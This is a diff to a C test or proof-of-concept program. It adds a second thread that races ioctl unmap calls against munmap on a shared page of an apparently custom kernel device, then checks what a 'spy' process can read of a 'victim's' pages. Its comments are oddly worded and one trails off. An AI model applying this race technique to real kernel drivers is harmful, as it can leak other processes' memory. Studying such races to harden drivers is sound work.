@@ -10,6 +10,7 @@
 #define _GNU_SOURCE
 #include <linux/capability.h>
 #include <poll.h>
+#include <pthread.h>
 #include <stdbool.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
@@ -268,6 +269,19 @@ static volatile uint8_t* fresh_page(void) {
     return page;
 }
 
+/* The page that is given is taken out of the rules while it is given back. */
+static void* take_out(void* device) {
+    for (unsigned int i = 0; i < count; i++) {
+        struct anemone_entry entry = {.key = (uintptr_t)board->given,
+                                      .flags = ANEMONE_ENTRY_VIRTUAL | ANEMONE_ENTRY_UNMAP};
+        struct anemone_map call = {
+            .size = sizeof(call), .id = rules[i].id, .entries = (uintptr_t)&entry, .count = 1};
+
+        ioctl(*(int*)device, ANEMONE_MAP, &call);
+    }
+    return NULL;
+}
+
 /* 'o': own page, 'v': the victim's and others', 'g': what is given now is remembered. */
 static void request(char what) {
     char answer;
@@ -295,6 +309,7 @@ static void same(const char* after) {
 
 static int spy(int fd, int rounds) {
     bool mapped = false, once = false;
+    pthread_t other;
 
     /* Where the victim has its pages, this process has none. */
     CHECK(mmap(board->victims, 2 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1,
@@ -314,7 +329,12 @@ static int spy(int fd, int rounds) {
         }
         name_ids(fd);
         request('g');
+        if (round % 2)
+            CHECK(!pthread_create(&other, NULL, take_out, &fd));
+        usleep(below(2000));
         CHECK(!munmap((void*)board->given, PAGE));
+        if (round % 2)
+            CHECK(!pthread_join(other, NULL));
         look(fd, seen[0]); /* what is taken away by reading is */
         look(fd, seen[0]);
         request('v');
